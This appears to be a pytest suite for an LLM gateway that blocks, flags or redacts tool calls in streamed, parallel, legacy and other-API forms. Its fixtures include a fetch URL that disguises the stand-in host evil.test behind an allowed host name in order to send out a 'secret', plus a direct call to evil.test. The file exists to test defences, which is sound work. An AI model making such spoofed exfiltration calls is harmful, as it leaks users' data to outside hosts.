"""Guards of tool calls through the real gateway: streamed or not, in parallel, in the old form, and what they leave."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.fakes import Reply, Script, chat_frame, chat_json, fake_vllm, stream
from tests.gateway.harness import EMAIL, Streamed, ask, ask_stream, document, gateway

REFUSAL = "Not this."
DONE = b"data: [DONE]\n\n"
FETCH: dict[str, Any] = {
    "type": "function",
    "function": {
        "name": "fetch",
        "parameters": {"type": "object", "properties": {"url": {"type": "string"}}, "required": ["url"]},
    },
}
MAIL: dict[str, Any] = {"type": "function", "function": {"name": "mail", "parameters": {"type": "object"}}}
TOOLS = [FETCH, MAIL]
GUARD: dict[str, object] = {
    "name": "tools",
    "kind": "tool_call",
    "arguments": [{"tool": "fetch", "path": "url", "hosts": ["example.org"]}],
}
GOOD = '{"url": "https://example.org/a"}'
EVIL = '{"url": "https://example.org@evil.test/?q=secret"}'


def entry(index: int, name: str, arguments: str) -> dict[str, Any]:
    return {
        "index": index,
        "id": f"c{index}",
        "type": "function",
        "function": {"name": name, "arguments": arguments},
    }


def call_frames(*calls: tuple[str, str], size: int = 3) -> list[bytes]:
    """Calls side by side, their arguments in pieces of `size` that take turns."""
    frames = [chat_frame({"role": "assistant", "content": ""}), chat_frame({"content": "Let me see."})]
    frames += [chat_frame({"tool_calls": [entry(i, name, "")]}) for i, (name, _) in enumerate(calls)]
    for at in range(0, max(len(a) for _, a in calls), size):
        for i, (_, arguments) in enumerate(calls):
            if piece := arguments[at : at + size]:
                frames.append(chat_frame({"tool_calls": [{"index": i, "function": {"arguments": piece}}]}))
    return [*frames, chat_frame({}, finish="tool_calls"), DONE]


def body_with(*calls: tuple[str, str]) -> Reply:
    made = [{k: v for k, v in entry(i, *c).items() if k != "index"} for i, c in enumerate(calls)]
    return Reply([chat_json(None, tool_calls=made)])


async def streamed(
    script: Script, tmp_path: Path, redis_url: str, *guards: dict[str, object], **more: object
) -> Streamed:
    async with (
        fake_vllm(script) as vllm,
        gateway(document(vllm.url, *(guards or (GUARD,)), refusal=REFUSAL), tmp_path, redis_url) as url,
    ):
        return await ask_stream(url, **({"tools": TOOLS} | more))


async def whole(script: Script, tmp_path: Path, redis_url: str, *guards: dict[str, object], **more: object) -> Any:
    async with (
        fake_vllm(script) as vllm,
        gateway(document(vllm.url, *(guards or (GUARD,)), refusal=REFUSAL), tmp_path, redis_url) as url,
    ):
        return (await ask(url, **({"tools": TOOLS} | more))).json()


def calls_of(got: Streamed) -> list[Any]:
    return [call for c in got.choices for call in c["delta"].get("tool_calls") or ()]


async def test_calls_that_are_allowed_come_whole_and_unchanged(tmp_path: Path, redis_url: str) -> None:
    got = await streamed(stream(call_frames(("fetch", GOOD), ("mail", "{}"))), tmp_path, redis_url)
    assert [(c["function"]["name"], c["function"]["arguments"]) for c in calls_of(got)] == [
        ("fetch", GOOD),
        ("mail", "{}"),
    ]
    assert got.ends == {0: "tool_calls"}
    assert got.wardgate["action"] == "allow"


@pytest.mark.parametrize("size", [1, 3, 1000])
async def test_a_blocked_tool_call_ends_the_turn(size: int, tmp_path: Path, redis_url: str) -> None:
    got = await streamed(stream(call_frames(("fetch", EVIL), size=size)), tmp_path, redis_url)
    assert calls_of(got) == []
    assert got.text() == f"Let me see.{REFUSAL}"
    assert got.ends == {0: "content_filter"}
    assert not any("evil" in p or "fetch" in p for p in got.payloads)
    (finding,) = got.wardgate["findings"]
    assert (finding["entity"], finding["category"]) == ("argument_host", "injection")
    assert finding["field"] == "choices[0].message.tool_calls[0].function"


async def test_one_bad_call_takes_its_parallel_calls_with_it(tmp_path: Path, redis_url: str) -> None:
    got = await streamed(stream(call_frames(("mail", "{}"), ("fetch", EVIL), ("wipe", "{}"))), tmp_path, redis_url)
    assert calls_of(got) == []
    assert got.ends == {0: "content_filter"}
    found = {(f["entity"], f["field"].split(".")[2]) for f in got.wardgate["findings"]}
    assert found == {("argument_host", "tool_calls[1]"), ("tool_not_offered", "tool_calls[2]")}


async def test_a_blocked_call_of_a_body_becomes_the_refusal(tmp_path: Path, redis_url: str) -> None:
    body = await whole(body_with(("mail", "{}"), ("fetch", EVIL)), tmp_path, redis_url)
    assert body["choices"][0]["message"] == {"role": "assistant", "content": REFUSAL, "refusal": None}
    assert body["choices"][0]["finish_reason"] == "content_filter"
    assert body["wardgate"]["action"] == "block"


async def test_a_call_in_the_old_form_is_judged_like_any_other(tmp_path: Path, redis_url: str) -> None:
    reply = Reply([chat_json(None, function_call={"name": "fetch", "arguments": EVIL})])
    body = await whole(reply, tmp_path, redis_url, tools=None, functions=[FETCH["function"]])
    assert body["choices"][0]["finish_reason"] == "content_filter"
    assert body["wardgate"]["findings"][0]["field"] == "choices[0].message.function_call"


async def test_a_streamed_call_in_the_old_form_is_held_until_it_is_complete(tmp_path: Path, redis_url: str) -> None:
    pieces = [EVIL[i : i + 4] for i in range(0, len(EVIL), 4)]
    frames = [chat_frame({"role": "assistant", "function_call": {"name": "fetch", "arguments": ""}})]
    frames += [chat_frame({"function_call": {"arguments": p}}) for p in pieces]
    script = stream([*frames, chat_frame({}, finish="function_call"), DONE])
    got = await streamed(script, tmp_path, redis_url, tools=None, functions=[FETCH["function"]])
    assert got.ends == {0: "content_filter"}
    assert not any("evil" in p for p in got.payloads)


async def test_a_call_without_any_offer_is_a_finding(tmp_path: Path, redis_url: str) -> None:
    body = await whole(body_with(("mail", "{}")), tmp_path, redis_url, tools=None)
    assert body["wardgate"]["findings"][0]["entity"] == "tool_not_offered"


async def test_arguments_that_do_not_fit_the_request_s_schema_are_blocked(tmp_path: Path, redis_url: str) -> None:
    body = await whole(body_with(("fetch", '{"uri": "https://example.org"}')), tmp_path, redis_url)
    assert body["wardgate"]["findings"][0]["entity"] == "arguments_schema"
    assert body["wardgate"]["findings"][0]["category"] == "format"


async def test_half_a_json_is_a_finding(tmp_path: Path, redis_url: str) -> None:
    got = await streamed(stream(call_frames(("fetch", GOOD[:-2]))), tmp_path, redis_url)
    assert got.wardgate["findings"][0]["entity"] == "arguments_malformed"
    assert got.ends == {0: "content_filter"}


async def test_a_flagged_call_is_made_and_kept(tmp_path: Path, redis_url: str) -> None:
    got = await streamed(stream(call_frames(("fetch", EVIL))), tmp_path, redis_url, {**GUARD, "action": "flag"})
    assert [c["function"]["arguments"] for c in calls_of(got)] == [EVIL]
    assert got.wardgate["action"] == "flag"
    assert got.ends == {0: "tool_calls"}


async def test_a_call_is_judged_before_its_arguments_are_redacted(tmp_path: Path, redis_url: str) -> None:
    arguments = '{"url": "https://example.org/?to=ada@example.com"}'
    body = await whole(body_with(("fetch", arguments)), tmp_path, redis_url, GUARD, {**EMAIL, "stages": ["output"]})
    made = body["choices"][0]["message"]["tool_calls"][0]["function"]
    assert json.loads(made["arguments"]) == {"url": "https://example.org/?to=[EMAIL]"}
    assert body["wardgate"]["action"] == "redact"


async def test_a_choice_with_a_bad_call_does_not_touch_the_others(tmp_path: Path, redis_url: str) -> None:
    frames = [
        chat_frame({"tool_calls": [entry(0, "fetch", EVIL)]}, 0),
        chat_frame({"tool_calls": [entry(0, "fetch", GOOD)]}, 1),
        chat_frame({}, 1, finish="tool_calls"),
        chat_frame({}, 0, finish="tool_calls"),
        DONE,
    ]
    got = await streamed(stream(frames), tmp_path, redis_url, n=2)
    assert got.ends == {0: "content_filter", 1: "tool_calls"}
    assert [c["function"]["arguments"] for c in calls_of(got)] == [GOOD]
    assert not any("evil" in p for p in got.payloads)


async def test_free_text_for_a_custom_tool_is_held_judged_and_redacted(tmp_path: Path, redis_url: str) -> None:
    tools = [{"type": "custom", "custom": {"name": "note"}}]
    pieces = ["Ask ada@exam", "ple.com, \\u0041"]
    start = {"index": 0, "id": "c0", "type": "custom", "custom": {"name": "note", "input": ""}}
    frames = [chat_frame({"tool_calls": [start]})]
    frames += [chat_frame({"tool_calls": [{"index": 0, "custom": {"input": p}}]}) for p in pieces]
    frames += [chat_frame({}, finish="tool_calls"), DONE]
    mail = {**EMAIL, "stages": ["output"]}
    got = await streamed(stream(frames), tmp_path, redis_url, GUARD, mail, tools=tools)
    assert [c["custom"] for c in calls_of(got)] == [{"name": "note", "input": "Ask [EMAIL], \\u0041"}]


async def test_a_custom_call_of_a_tool_with_limited_arguments_is_blocked(tmp_path: Path, redis_url: str) -> None:
    call = {"id": "c0", "type": "custom", "custom": {"name": "fetch", "input": "https://evil.test"}}
    body = await whole(Reply([chat_json(None, tool_calls=[call])]), tmp_path, redis_url)
    assert body["wardgate"]["findings"][0]["field"] == "choices[0].message.tool_calls[0].custom"
    assert body["choices"][0]["finish_reason"] == "content_filter"


async def test_a_call_that_is_of_two_kinds_is_refused(tmp_path: Path, redis_url: str) -> None:
    both = {**entry(0, "mail", "{}"), "custom": {"name": "fetch", "input": "x"}}
    body = await whole(Reply([chat_json(None, tool_calls=[both])]), tmp_path, redis_url)
    assert body["error"]["code"] == "upstream_broken"


MESSAGES_ANSWER = {
    "id": "msg_1",
    "type": "message",
    "role": "assistant",
    "model": "fake",
    "content": [{"type": "tool_use", "id": "c1", "name": "fetch", "input": json.loads(EVIL)}],
    "stop_reason": "tool_use",
    "stop_sequence": None,
    "usage": {"input_tokens": 1, "output_tokens": 1},
}
RESPONSES_ANSWER = {
    "id": "resp_1",
    "object": "response",
    "created_at": 1,
    "status": "completed",
    "model": "fake",
    "output": [
        {
            "type": "function_call",
            "id": "f1",
            "call_id": "c1",
            "name": "fetch",
            "arguments": EVIL,
            "status": "completed",
        }
    ],
}
FLAT = {"type": "function", "name": "fetch", "parameters": FETCH["function"]["parameters"]}
SURFACES: list[tuple[str, dict[str, Any], dict[str, Any]]] = [
    (
        "/v1/messages",
        {
            "max_tokens": 9,
            "messages": [{"role": "user", "content": "a"}],
            "tools": [{"name": "fetch", "input_schema": FETCH["function"]["parameters"]}],
        },
        MESSAGES_ANSWER,
    ),
    ("/v1/responses", {"input": "a", "tools": [FLAT]}, RESPONSES_ANSWER),
]


@pytest.mark.parametrize(("route", "body", "said"), SURFACES, ids=[route for route, *_ in SURFACES])
async def test_calls_of_other_surfaces_are_judged_by_the_same_rules(
    route: str, body: dict[str, Any], said: dict[str, Any], tmp_path: Path, redis_url: str
) -> None:
    async with (
        fake_vllm(Reply([json.dumps(said).encode()])) as vllm,
        gateway(document(vllm.url, GUARD, refusal=REFUSAL), tmp_path, redis_url) as url,
        httpx.AsyncClient() as client,
    ):
        answer = await client.post(url + route, json={"model": "assistant", **body})
    assert answer.status_code == 200
    assert [f["entity"] for f in answer.json()["wardgate"]["findings"]] == ["argument_host"]
    assert answer.json()["wardgate"]["action"] == "block"
    assert "evil.test" not in answer.text
    assert REFUSAL in answer.text
